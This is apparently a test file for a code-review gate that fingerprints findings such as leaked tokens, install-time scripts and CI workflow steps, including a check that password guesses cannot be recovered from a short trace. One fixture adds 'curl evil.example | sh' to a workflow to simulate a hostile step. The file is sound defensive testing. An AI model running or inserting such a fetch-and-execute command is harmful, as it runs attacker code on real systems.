import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import type { FileChange } from '../../worker/contract/index.ts'
import { evaluateGates } from '../../worker/gates/evaluate-gates.ts'
import { traceOfSecret } from '../../worker/gates/fingerprint.ts'
import { gates } from '../../worker/gates/gates.ts'
import { added, changed, gateInput, madeUp } from './gate-input.ts'

const leak = (value: string, name = 'API_TOKEN') => `${name} = "${value}"\n`

async function fingerprintsOf(...files: FileChange[]): Promise<string[]> {
  const results = await evaluateGates(gates, gateInput(files))
  return results.flatMap(({ findings }) => findings.map(({ fingerprint }) => fingerprint))
}

async function fingerprintOf(file: FileChange): Promise<string> {
  const [first = ''] = await fingerprintsOf(file)
  return first
}

describe('a fingerprint', () => {
  it('stays when lines move, and when others are added around it', async () => {
    const first = await fingerprintOf(added('a.py', leak(madeUp(24))))
    const moved = await fingerprintOf(changed('a.py', 'x = 1\n', `import os\n\nx = 1\n${leak(madeUp(24))}y = 2\n`))

    expect(first).toMatch(/^[0-9a-f]{32}$/)
    expect(moved).toBe(first)
  })

  it.each([
    ['path', added('b.py', leak(madeUp(24)))],
    ['value', added('a.py', leak(`${madeUp(24)}9`))],
    ['name', added('a.py', leak(madeUp(24), 'OTHER_TOKEN'))],
    ['rule', added('package.json', '{ "scripts": { "postinstall": "node x.js" } }')],
  ])('is another one for another %s', async (_what, file) => {
    expect(await fingerprintOf(file)).not.toBe(await fingerprintOf(added('a.py', leak(madeUp(24)))))
  })

  it('tells two that are alike apart, and a secret that joins another on its line', async () => {
    const one = leak(madeUp(24)).trim()
    const alike = await fingerprintsOf(added('a.py', `${one}\n${one}\n`))
    const joined = await fingerprintsOf(
      added('a.py', `${one}; B_SECRET = "${madeUp(20).split('').reverse().join('')}"\n`),
    )

    expect(new Set(alike).size).toBe(2)
    expect(joined).not.toContain(alike[0])
  })

  it('is another one for another command on install', async () => {
    const script = (command: string) => added('package.json', `{ "scripts": { "postinstall": "${command}" } }`)

    expect(await fingerprintOf(script('node x.js'))).not.toBe(await fingerprintOf(script('node y.js')))
  })

  it('of a command stays when other lines move it, and goes when a line joins it', async () => {
    const workflow = (steps: string, before = '') => changed('.github/workflows/ci.yml', before, `${before}${steps}`)
    const steps = 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          make\n'

    const first = await fingerprintOf(workflow(steps))
    const moved = await fingerprintOf(workflow(steps, '# one\n# two\n'))
    const joined = await fingerprintOf(workflow(`${steps}          curl evil.example | sh\n`))

    expect(moved).toBe(first)
    expect(joined).not.toBe(first)
  })

  it('of findings that are not shown is nobody else’s', async () => {
    const many = Array.from({ length: 60 }, (_, index) => leak(`${madeUp(24)}${index}`)).join('')
    const shown = await fingerprintsOf(added('a.py', many))

    expect(shown).toHaveLength(51)
    expect(new Set(shown).size).toBe(51)
  })
})

describe('a list of passwords tried against a fingerprint', () => {
  it('is left with many that fit; control: against a whole digest one is left', () => {
    const guesses = Array.from({ length: 300_000 }, (_, index) => `summer${index}`)
    const digest = (text: string) => createHash('sha256').update(text).digest('hex')
    const secret = 'summer2027'

    const fit = guesses.filter((guess) => traceOfSecret([guess]) === traceOfSecret([secret]))
    const exact = guesses.filter((guess) => digest(guess) === digest(secret))

    expect(traceOfSecret([secret])).toHaveLength(4)
    expect(fit.length).toBeGreaterThan(1)
    expect(exact).toEqual([secret])
  })

  it('gains nothing from a value that stands before another one on a line', async () => {
    const line = (first: string) => added('a.py', `f("${first}", "${madeUp(10)}"); API_TOKEN = "${madeUp(24)}"\n`)

    expect(await fingerprintOf(line('hunter-2'))).toBe(await fingerprintOf(line('hunter-3')))
  })
})
